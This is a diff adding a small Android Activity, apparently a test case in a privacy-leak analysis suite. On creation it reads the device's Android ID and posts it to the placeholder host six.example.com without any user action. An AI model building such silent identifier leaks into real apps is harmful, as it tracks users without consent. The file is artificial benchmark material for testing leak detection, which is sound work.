@@ -1,0 +1,26 @@
+package cn.privlens.suite.helper_reads_itself;
+
+import android.app.*;
+import android.content.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.regex.*;
+
+public class Second extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        Main.post("https://six.example.com/", android.provider.Settings.Secure.getString(getContentResolver(), "android_id"));
+    }
+
+}
